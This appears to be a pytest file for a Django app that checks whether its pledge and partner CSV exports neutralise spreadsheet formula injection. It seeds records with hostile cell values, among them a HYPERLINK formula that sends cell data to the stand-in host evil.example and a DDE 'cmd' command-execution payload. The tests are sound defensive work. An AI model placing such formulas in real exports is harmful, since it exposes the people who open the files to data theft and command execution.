"""Issue #12 finding 5: no CSV export cell starts a formula."""

import csv
import io

import pytest
from django.urls import reverse

from tests.factories import PartnerFactory, PledgeFactory

from .test_moderation import listing_url, moderator  # noqa: F401 (fixture)

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "＝1"]


def csv_rows(response):
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def assert_no_formula_cells(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), cell


def test_pledge_export_neutralises_formula_cells(client, moderator):  # noqa: F811
    for text in HOSTILE:
        PledgeFactory(name=text, statement=text, contact_name=text, moderation_reason=text)
    rows = csv_rows(client.get(listing_url(export="csv")))
    assert len(rows) == len(HOSTILE) + 1
    assert_no_formula_cells(rows)
    # Neutralised, not dropped: the text is all there after the apostrophe.
    assert {row[1] for row in rows[1:]} == {"'" + text for text in HOSTILE}


def test_partner_export_neutralises_formula_cells(client, moderator):  # noqa: F811
    PartnerFactory(name="=cmd|' /C calc'!A0", description="@danger", kind="police", country="CA")
    rows = csv_rows(client.get(reverse("wagtailsnippets_partners_partner:list"), {"export": "csv"}))
    assert_no_formula_cells(rows)
    assert rows[1][0] == "'=cmd|' /C calc'!A0"


def test_ordinary_values_are_unchanged(client, moderator):  # noqa: F811
    PledgeFactory(name="Example Police", statement="We pledge - with dashes - to help.")
    rows = csv_rows(client.get(listing_url(export="csv")))
    assert rows[1][1] == "Example Police"
    assert rows[1][5] == "We pledge - with dashes - to help."
